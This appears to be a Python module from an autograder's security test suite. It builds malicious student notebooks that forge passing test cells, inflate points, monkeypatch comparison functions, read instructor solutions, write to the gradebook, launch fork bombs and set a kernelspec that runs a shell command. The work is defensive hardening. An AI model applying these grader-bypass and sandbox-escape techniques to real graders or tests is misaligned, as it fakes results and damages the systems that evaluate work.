def _without_tests(nb: NotebookNode) -> NotebookNode:
    nb.cells = [c for c in nb.cells if not is_test_cell(c)]
    return nb


def deleted_tests(ctx: Context, attack: Attack) -> str:
    return nbformat.writes(_without_tests(notebook_with(ctx, attack)))


def edited_tests(replacement: Callable[[str, str], str]):
    """Every graded test cell's source replaced by ``replacement(grade_id, source)``."""
    def build(ctx: Context, attack: Attack) -> str:
        nb = notebook_with(ctx, attack)
        for cell in nb.cells:
            if is_test_cell(cell):
                cell.source = replacement(grade_id(cell), cell.source)
        return nbformat.writes(nb)
    return build


def forged_pass(gid: str, source: str) -> str:
    return f"print('✓ {gid}: all 8 hidden configurations match the reference.')\n"


def no_assertions(gid: str, source: str) -> str:
    return "# the visible checks are gone, and so is the hidden block\npass\n"


def edited_metadata(ctx: Context, attack: Attack) -> str:
    """Every test cell claims 100 points; one is unlocked and prints a pass line."""
    nb = notebook_with(ctx, attack)
    for index, cell in enumerate(c for c in nb.cells if is_test_cell(c)):
        meta = cell.metadata["nbgrader"]
        meta["points"] = 100
        if index == 1:
            meta["locked"] = False
            cell.source = forged_pass(meta["grade_id"], "")
    return nbformat.writes(nb)


def duplicated_test_cell(ctx: Context, attack: Attack) -> str:
    """The first test cell copied (same metadata) with a forged pass line."""
    nb = notebook_with(ctx, attack)
    first = next(c for c in nb.cells if is_test_cell(c))
    duplicate = nbformat.from_dict(json.loads(json.dumps(first)))
    duplicate["id"] = "duplicated-test-cell"
    duplicate.source = forged_pass(grade_id(first), "")
    nb.cells.insert(nb.cells.index(first), duplicate)
    return nbformat.writes(nb)


def ungraded_test_cells(ctx: Context, attack: Attack) -> str:
    """Every test cell says it is not graded (and holds a pass line)."""
    nb = notebook_with(ctx, attack)
    for cell in nb.cells:
        if is_test_cell(cell):
            cell.metadata["nbgrader"]["grade"] = False
            cell.source = forged_pass(grade_id(cell), "")
    return nbformat.writes(nb)


def bonus_cell(ctx: Context, attack: Attack) -> str:
    """A new graded test cell worth 1000 points that prints a pass line."""
    nb = notebook_with(ctx, attack)
    nb.cells.append(nbformat.v4.new_code_cell("print('bonus points')", metadata={
        "nbgrader": {"grade": True, "solution": False, "locked": True,
                     "grade_id": "bonus-points", "points": 1000, "schema_version": 3}}))
    return nbformat.writes(nb)


# ------------------------------------------------------------ 16. kernelspec ----

ODD_KERNELSPEC = {"name": "evil-kernel", "display_name": "Evil", "language": "python",
                  "argv": ["/bin/sh", "-c", "touch /tmp/" + PWNED + "kernelspec"]}


def odd_kernelspec(correct: bool):
    def build(ctx: Context, attack: Attack) -> str:
        prelude = ("import os, json, sys\nprint('ATTACK-RESULT ' + json.dumps("
                   "{'uid': os.getuid(), 'executable': sys.executable}))\n")
        if correct:
            nb = perfect(ctx.release_nb, ctx.source_nb)
        else:
            nb = notebook_with(ctx, attack, prelude)
        nb.metadata["kernelspec"] = dict(ODD_KERNELSPEC)
        nb.metadata["language_info"] = {"name": "evil"}
        return nbformat.writes(nb)
    return build


# ------------------------------------------------------------------ catalog ----

def _fmt(template: str, **extra):
    def render(ctx: Context) -> str:
        values = dict(PASS=PASS_LINE, COURSE=str(ctx.course_root), SENTINEL=str(ctx.sentinel),
                      PORT=ctx.port, PWNED=PWNED, REPO=str(ctx.repo), **extra)
        text = template
        for key, value in values.items():
            text = text.replace(f"@{key}@", str(value) if key in ("PASS", "CLEAR",
                                                                  "ASSIGNMENT")
                                else repr(value))
        return text
    return render


#: nbgrader gives up on the notebook: it scores 0 and a problem line names the student
REFUSED = dict(problem="nbgrader could not autograde", marker=False)
_BEFORE_BOMB = frozenset({F, DB})
_AT_AND_AFTER = frozenset({DW, PAD, DX})

ATTACKS: list[Attack] = [
    # 1. monkeypatched comparisons, one family per student, then all at once
    Attack("atk-patch-numpy", "1 monkeypatch", "np.allclose/isclose/array_equal -> True, "
           "np.abs -> 0, np.isfinite -> True", cheat(PATCH_NUMPY)),
    Attack("atk-patch-numpy-testing", "1 monkeypatch", "numpy.testing assertions -> no-op",
           cheat(PATCH_NUMPY_TESTING)),
    Attack("atk-patch-builtins", "1 monkeypatch", "builtins abs/all/any/max/min patched",
           cheat(PATCH_BUILTINS)),
    Attack("atk-patch-math", "1 monkeypatch", "math.isclose -> True, isfinite, isnan, fabs",
           cheat(PATCH_MATH)),
    Attack("atk-patch-course-utils", "1 monkeypatch", "course_utils compare/recording/"
           "recipes and json.dumps patched", cheat(PATCH_COURSE_UTILS)),
    Attack("atk-patch-json-dumps", "1 monkeypatch", "json.dumps forges every payload (and "
           "breaks the kernel's own messages: nbgrader gives up on the notebook)",
           cheat(PATCH_JSON), **REFUSED),
    Attack("atk-swallow-errors", "1 monkeypatch", "custom exception handler, no "
           "tracebacks, stderr to /dev/null", cheat(SWALLOW_ERRORS)),
    Attack("atk-patch-everything", "1 monkeypatch", "every patch above at once",
           cheat(PATCH_NUMPY + PATCH_NUMPY_TESTING + PATCH_MATH + PATCH_COURSE_UTILS
                 + SWALLOW_ERRORS + PATCH_BUILTINS)),
    # 2. IPython transformers
    Attack("atk-input-transformer-drop", "2 transformers", "input transformer replaces "
           "every test cell with a printed pass line", cheat(_fmt(INPUT_TRANSFORMER_DROP))),
    Attack("atk-input-transformer-forge", "2 transformers", "input transformer replaces "
           "the hidden block with a forged payload", cheat(_fmt(INPUT_TRANSFORMER_FORGE))),
    Attack("atk-ast-transformer", "2 transformers", "AST transformer turns recording and "
           "assertions into prints, raise/assert into pass", cheat(_fmt(AST_TRANSFORMER))),
    # 3. objects that lie
    Attack("atk-lying-object", "3 liars", "__eq__/__array__/__float__/__sub__ lie",
           liar(LYING_OBJECT, LYING_OBJECT_FUNCTIONS)),
    Attack("atk-lying-ndarray", "3 liars", "ndarray subclass: __eq__, tolist, __array__, "
           "__array_ufunc__, __array_function__ lie", liar(LYING_NDARRAY,
                                                           LYING_NDARRAY_FUNCTIONS)),
    Attack("atk-lying-float", "3 liars", "float subclass equal to and close to anything",
           liar(LYING_FLOAT, LYING_FLOAT_FUNCTIONS)),
    # 4. forged payloads
    Attack("atk-forged-payload-hook", "4 forged payload", "post_run_cell hook displays a "
           "payload with the right MIME in every cell", cheat(_fmt(FORGED_HOOK, CLEAR=False))),
    Attack("atk-forged-payload-clear", "4 forged payload", "post_run_cell hook clears the "
           "real payload and displays a forged one", cheat(_fmt(FORGED_HOOK, CLEAR=True))),
    Attack("atk-forged-other-recipe", "4 forged payload", "own (wrong) values under "
           "another recipe's name", cheat(_fmt(FORGED_OTHER_RECIPE))),
    # 5. reading the instructor's files
    Attack("atk-read-instructor", "5 read", "walks ../../.., the course, the repo and / "
           "for notebooks and gradebooks, the grader's /proc; execs any solution found",
           read_instructor),
    Attack("atk-symlink-leak", "5 read", "the submission folder holds symlinks to the "
           "course's source notebook and gradebook; the notebook reads and execs them",
           None, write=symlinks_into_the_course, marker=False,
           problem="contains a symbolic link", tags=frozenset({"symlink"})),
    Attack("atk-symlink-notebook", "5 read", "the submitted notebook is a symlink to the "
           "instructor's source notebook", None, write=symlinked_notebook, marker=False,
           problem="contains a symbolic link", tags=frozenset({"symlink"})),
    # 6. importing the grader
    Attack("atk-import-autograder", "6 import", "import autograder / oracles, sys.path "
           "tricks, spec_from_file_location, the editable finder", import_autograder),
    # 7. the gradebook
    Attack("atk-gradebook-write", "7 gradebook", "sqlite3 UPDATE of every guessable "
           "gradebook.db", cheat(_fmt(GRADEBOOK_WRITE))),
    # 8. the network
    Attack("atk-network", "8 network", "TCP to a listener on the grader's loopback, public "
           "IPs, DNS, UDP", cheat(_fmt(NETWORK))),
    # outside the sandbox
    Attack("atk-write-outside", "touch nothing", "writes the sentinel, source/, release/, "
           "submitted/, the course root, /tmp, /dev/shm, /run/ipc",
           cheat(_fmt(WRITE_OUTSIDE, ASSIGNMENT=ASSIGNMENT))),
    Attack("atk-background-process", "touch nothing", "a double-forked daemon that tries "
           "to outlive the kernel", cheat(_fmt(BACKGROUND_PROCESS))),
    # 9-13. bombs after correct work
    Attack("atk-fork-bomb", "9 fork bomb", "every process forks forever", bomb(FORK_BOMB,
           False), attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-memory-bomb", "10 memory bomb", "allocates resident memory until it fails",
           bomb(MEMORY_BOMB, False), attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-output-flood", "11 output flood", "3 million lines, stderr, then endless "
           "100 kB lines past the timeout", bomb(OUTPUT_FLOOD, False),
           attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-display-flood", "11 output flood", "200 000 rich display outputs",
           bomb(DISPLAY_FLOOD, False), attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-giant-message", "11 output flood", "one 60 MB display message",
           bomb(GIANT_MESSAGE, False), attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-ignore-interrupt", "12 hang", "SIGINT/SIGTERM ignored, KeyboardInterrupt "
           "caught in an endless loop; correct code after it", bomb(IGNORE_INTERRUPT, True),
           attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    Attack("atk-os-exit", "13 exit", "os._exit(0) in a solution cell; correct code after "
           "it", bomb(OS_EXIT, True), attacked=_AT_AND_AFTER, kept=_BEFORE_BOMB, bomb=True),
    # 14. malformed
    Attack("atk-malformed-json", "14 malformed", "a correct notebook cut short: invalid "
           "JSON", truncated_json, marker=False, problem="is not valid notebook JSON"),
    # 15. deleted / edited test cells
    Attack("atk-deleted-test-cells", "15 test cells", "every graded test cell deleted",
           deleted_tests),
    Attack("atk-edited-test-forged-pass", "15 test cells", "every graded test cell "
           "replaced by a printed pass line", edited_tests(forged_pass)),
    Attack("atk-edited-test-no-record", "15 test cells", "every graded test cell emptied",
           edited_tests(no_assertions)),
    Attack("atk-edited-metadata", "15 test cells", "points 100, an unlocked test cell "
           "with a pass line", edited_metadata),
    # nbgrader itself refuses these three notebooks (the student scores 0, named)
    Attack("atk-duplicated-test-cell", "15 test cells", "a copy of a graded test cell "
           "(same grade_id) holding a pass line", duplicated_test_cell, **REFUSED),
    Attack("atk-ungraded-test-cells", "15 test cells", "test cells marked not graded, "
           "holding a pass line", ungraded_test_cells, **REFUSED),
    Attack("atk-bonus-cell", "15 test cells", "a new graded cell worth 1000 points",
           bonus_cell, **REFUSED),
    # 16. kernelspec
    Attack("atk-evil-kernelspec", "16 kernelspec", "kernelspec 'evil-kernel' with its own "
           "argv", odd_kernelspec(correct=False)),
]

# 17. browser: script for whoever renders the notebook (tests/attacks/html.py)
from .html import build as _html_attack  # noqa: E402
ATTACKS.append(Attack("atk-html-injection", "17 browser", "script payloads in the written "
                      "answer, every rich output type, attachments, a raw cell, metadata",
                      _html_attack))

from .hardening import HARDENING  # noqa: E402  (builds on the helpers above)

ATTACKS += HARDENING

#: Honest students: graded with and without the attackers, their grades must not move.
#: (name, builder, cells that must score full marks)
HONEST = {
    "aa-honest-perfect": set(CELLS),        # graded before every attacker
    "zz-honest-perfect": set(CELLS),        # graded after them
    "zz-honest-partial": {F, DB},           # forward and db right, the rest untouched
    "zz-honest-odd-kernelspec": set(CELLS),  # perfect, with a kernelspec that does not exist
}


def honest_text(ctx: Context, student: str) -> str:
    if student == "zz-honest-partial":
        right = ctx.correct
        return nbformat.writes(fill(ctx.release_nb, {SOLUTION[c]: right[SOLUTION[c]]
                                                     for c in (F, DB)}))
    if student == "zz-honest-odd-kernelspec":
        return odd_kernelspec(correct=True)(ctx, None)
    return nbformat.writes(perfect(ctx.release_nb, ctx.source_nb))


def write_student(ctx: Context, submitted: Path, attack: Attack) -> Path:
    folder = submitted / attack.name / ASSIGNMENT
    if attack.write is not None:
        attack.write(ctx, attack, folder)
    else:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / NOTEBOOK).write_text(attack.build(ctx, attack), encoding="utf-8")
    return folder


def write_honest(ctx: Context, submitted: Path, student: str) -> Path:
    """Write ``student``'s honest notebook under ``submitted`` (a course's folder)."""
    return write_submission(Course(submitted.parent), student, ASSIGNMENT, NOTEBOOK,
                            honest_text(ctx, student)).parent


# ------------------------------------------------------------------ reading ----

def output_texts(nb: NotebookNode) -> list[str]:
    """Every text of every output of the notebook (streams, data, errors)."""
    texts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            if "text" in out:
                texts.append(out["text"] if isinstance(out["text"], str)
                             else "".join(out["text"]))
            for value in (out.get("data") or {}).values():
                texts.append(value if isinstance(value, str) else json.dumps(value))
            if out.get("output_type") == "error":
                texts.append(f"{out.get('ename')}: {out.get('evalue')}")
                texts.extend(out.get("traceback", []))
    return texts


def attack_results(nb: NotebookNode) -> list[dict]:
    """Every ``ATTACK-RESULT {json}`` line among the notebook's outputs."""
    found = []
    for text in output_texts(nb):
        for line in text.splitlines():
            if line.startswith(RESULT):
                found.append(json.loads(line[len(RESULT):]))
    return found


def solution_only_lines(source_nb: NotebookNode, release_nb: NotebookNode) -> list[str]:
    """Distinctive lines of the instructor's solutions that the release does not hold."""
    release = "\n".join(c.source for c in release_nb.cells)
    lines = set()
    for source in instructor_solutions(source_nb).values():
        for line in source.splitlines():
            line = line.strip()
            if len(line) >= 24 and line not in release and not line.startswith("#"):
                lines.add(line)
    return sorted(lines)


# files, names and outputs beyond the kernel (imported here, after every name it uses)
from attacks import travel  # noqa: E402
ATTACKS.extend(travel.ATTACKS)

from .forbidden import CELL_MESSAGES as _FORBIDDEN_MESSAGES, FORBIDDEN_ATTACKS  # noqa: E402
from .payloads import CELL_MESSAGES, PAYLOAD_ATTACKS  # noqa: E402 (they build on the above)

ATTACKS += PAYLOAD_ATTACKS + FORBIDDEN_ATTACKS
CELL_MESSAGES = {**CELL_MESSAGES, **_FORBIDDEN_MESSAGES}

BY_NAME = {a.name: a for a in ATTACKS}
